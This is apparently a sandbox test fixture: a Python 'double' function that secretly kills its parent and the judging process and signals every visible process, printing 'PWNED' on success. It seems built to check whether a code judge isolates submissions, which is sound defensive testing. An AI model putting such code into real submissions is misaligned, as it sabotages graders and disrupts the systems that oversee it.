"""Kill the parent and the judging process, and signal everything visible."""
import os
import signal

JUDGE = @JUDGE_PID@


def double(x):
    for target in (os.getppid(), JUDGE):
        if target <= 0:
            continue  # no parent visible (a PID namespace): kill(0) would only hit ourselves
        try:
            os.kill(target, signal.SIGKILL)
            print("PWNED signalled", target)
        except OSError as exc:
            print("refused:", target, exc)
    for pid in [int(p) for p in os.listdir("/proc") if p.isdigit()]:
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGTERM)
                print("PWNED signalled", pid)
            except OSError:
                pass
    return x * 2
